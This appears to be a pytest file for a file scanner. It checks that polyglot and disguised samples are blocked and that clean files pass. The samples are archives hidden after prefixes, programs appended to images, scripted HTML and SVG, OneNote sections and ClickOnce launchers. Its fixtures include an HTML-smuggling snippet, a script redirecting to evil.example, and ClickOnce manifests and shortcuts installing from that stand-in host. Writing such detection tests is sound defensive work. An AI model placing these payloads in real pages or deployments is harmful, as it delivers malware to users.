"""Scanner gaps closed: archives and programs after a prefix, active web content, launchers.

Each sample here got a clean verdict before: 7-Zip and WinRAR open an archive
whose signature comes after a few other bytes, browsers run the script in an HTML
page or an SVG image, OneNote runs the files a section carries on one click, and
ClickOnce installs and runs whatever a manifest or a shortcut names.
"""

from __future__ import annotations

import os
import struct
from pathlib import Path

import pytest

from bastion.files import active
from bastion.files.content_type import ContentType, sniff
from bastion.files.scan import VerdictKind
from tests.files.test_file_scan import assert_blocked, elf, make_zip, pdf, pe, png, scan

RAR5 = b"Rar!\x1a\x07\x01\x00" + bytes.fromhex("33920be50a01050600050101808000") + b"\x00" * 40
RAR4 = b"Rar!\x1a\x07\x00" + bytes.fromhex("cf907300000d00000000000000") + b"\x00" * 40
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40
CAB = b"MSCF\x00\x00\x00\x00" + struct.pack("<I", 64) + b"\x00" * 52
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\x00" * 200
ONENOTE_WITH_FILE = ONENOTE + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + pe()
CLICKONCE = b"""<?xml version="1.0" encoding="utf-8"?>
<asmv1:assembly xsi:schemaLocation="urn:schemas-microsoft-com:asm.v1 assembly.adaptive.xsd"
  manifestVersion="1.0" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"
  xmlns="urn:schemas-microsoft-com:asm.v2">
  <assemblyIdentity name="Update.application" version="1.0.0.0" />
  <deployment install="true" mapFileExtensions="true">
    <deploymentProvider codebase="https://evil.example/Update.application" />
  </deployment>
</asmv1:assembly>
"""
APPREF = (
    "\ufeffhttps://evil.example/Update.application#Update.application, Culture=neutral, "
    "PublicKeyToken=0000000000000000, processorArchitecture=msil"
).encode("utf-16-le")

CORPUS = [
    ("rar5 after 7 bytes", "photos.rar", b"GIF89a!" + RAR5, ["RAR archive after 7 bytes"]),
    ("rar4 after a prefix", "notes", b"hello" + RAR4, ["RAR archive after 5 bytes"]),
    ("7z after 3 bytes", "data.bin", b"\x00\x01\x02" + SEVEN_ZIP, ["7-Zip archive after 3 bytes"]),
    ("cab after 11 bytes", "update.dat", b"padding....." + CAB, ["cabinet archive after 12 bytes"]),
    ("7z after a whole pdf", "paper.pdf", pdf() + SEVEN_ZIP, ["hides a 7-Zip archive"]),
    ("pe after a png", "cat.png", png() + pe(), ["hides a Windows program"]),
    ("elf after text", "notes.txt", b"read me\n" * 10 + elf(), ["hides a Linux program"]),
    (
        "zip after a png, holding a program",
        "cat.png",
        png() + make_zip({"cat.exe": pe()}),
        ["a ZIP archive after other data", "cat.exe", "Windows program"],
    ),
    (
        "html with script",
        "invoice.html",
        b"<!DOCTYPE html><html><body><script>location='https://evil.example'</script>",
        ["web page (HTML) with active content (a <script> element)"],
    ),
    (
        "html with an event handler, named .txt",
        "invoice.txt",
        b"<html><body><img src=x onerror=alert(1)></body></html>",
        ["web page (HTML) with active content (an onerror handler)"],
    ),
    (
        "html smuggling",
        "statement.htm",
        b"<html><script>var b=new Blob([Uint8Array.from(atob('TVo='),c=>c.charCodeAt(0))]);"
        b"var a=document.createElement('a');a.href=URL.createObjectURL(b);"
        b"a.download='statement.iso';a.click()</script></html>",
        ["<script>", "HTML smuggling"],
    ),
    (
        "html in utf-16 named .html",
        "page.html",
        "\ufeff<html><body><script>alert(1)</script></body></html>".encode("utf-16-le"),
        ["web page (HTML) with active content (a <script> element)"],
    ),
    (
        "svg with script",
        "logo.svg",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.domain)</script></svg>",
        ["SVG image with active content (a <script> element)", "SVG image with script"],
    ),
    (
        "svg with onload, named .png",
        "logo.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ["SVG image with active content (an onload handler)", "named .png"],
    ),
    ("onenote", "minutes.one", ONENOTE, ["OneNote section", ".one"]),
    ("onenote renamed", "minutes.pdf", ONENOTE, ["is a OneNote section"]),
    ("onenote with a file", "minutes.one", ONENOTE_WITH_FILE, ["OneNote section with an embedded"]),
    (
        "clickonce manifest",
        "Update.application",
        CLICKONCE,
        ["ClickOnce application", ".application"],
    ),
    ("clickonce renamed", "readme.txt", CLICKONCE, ["is a ClickOnce application"]),
    ("clickonce shortcut", "Update.appref-ms", APPREF, ["ClickOnce application", ".appref-ms"]),
    ("clickonce shortcut renamed", "link.txt", APPREF, ["is a ClickOnce application or shortcut"]),
    (
        "prefixed 7z inside a zip",
        "bundle.zip",
        make_zip({"data.bin": b"xx" + SEVEN_ZIP}),
        ["'data.bin' inside the file hides a 7-Zip archive after 2 bytes"],
    ),
]


@pytest.mark.parametrize(("case", "name", "data", "words"), CORPUS, ids=[c[0] for c in CORPUS])
def test_the_corpus_is_blocked_with_the_right_reason(
    tmp_path: Path, case: str, name: str, data: bytes, words: list[str]
) -> None:
    assert_blocked(scan(tmp_path, name, data), *words)


CLEAN = [
    ("paper.pdf", pdf(), ContentType.PDF),
    ("dot.png", png(), ContentType.PNG),
    ("notes.txt", b"Notes: the MZ and 7z formats; Rar! is a magic.\n", ContentType.TEXT),
    ("photos.zip", make_zip({"a/b.txt": b"hi", "c.png": png()}), ContentType.ZIP),
    ("page.html", b"<!DOCTYPE html><html><body><p>Hello, <b>world</b>.</p>", ContentType.HTML),
    ("icon.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>', ContentType.SVG),
    ("notes.md", b"# How to write <script> tags\nUse them carefully.\n", ContentType.TEXT),
    ("random.bin", os.urandom(256 * 1024), ContentType.UNKNOWN),
]


@pytest.mark.parametrize(("name", "data", "kind"), CLEAN, ids=[c[0] for c in CLEAN])
def test_clean_files_still_pass(tmp_path: Path, name: str, data: bytes, kind: ContentType) -> None:
    verdict = scan(tmp_path, name, data)
    assert verdict.kind is VerdictKind.CLEAN, verdict.reasons
    assert verdict.content_type is kind


def test_the_prefix_search_is_bounded() -> None:
    far = b"\x00" * active.EMBEDDED_SEARCH_BYTES + SEVEN_ZIP
    assert active.find_embedded(far[: active.EMBEDDED_SEARCH_BYTES]) == []
    near = b"\x00" * (active.EMBEDDED_SEARCH_BYTES - 100) + SEVEN_ZIP
    [hit] = active.find_embedded(near[: active.EMBEDDED_SEARCH_BYTES])
    assert (hit.kind, hit.offset) == (ContentType.SEVEN_ZIP, active.EMBEDDED_SEARCH_BYTES - 100)


def test_decoy_signatures_cannot_hide_a_real_one(tmp_path: Path) -> None:
    decoys = b"MZ" * (active.MAX_HITS_PER_MAGIC + 1)
    assert_blocked(scan(tmp_path, "notes.bin", b"x" + decoys + pe()), "too often to check")


def test_a_stray_magic_is_not_a_program() -> None:
    # "MZ" and "\x7fELF" in ordinary data, without the structure behind them.
    window = b"xxMZ" + b"\x00" * 100 + b"yy\x7fELF\x09\x09" + b"Rar!\x1a\x07\x09" + b"\x00" * 64
    assert active.find_embedded(window) == []


def test_sniff_tells_markup_and_launchers_apart() -> None:
    assert sniff(b"  <!-- hi -->\n<HTML lang=en>") is ContentType.HTML
    assert sniff(b'<?xml version="1.0"?><svg/>') is ContentType.SVG
    assert sniff(ONENOTE) is ContentType.ONENOTE
    assert sniff(CLICKONCE) is ContentType.CLICKONCE
    assert sniff(APPREF) is ContentType.CLICKONCE
    assert sniff(b"plain <b>words</b> with a tag later") is ContentType.TEXT
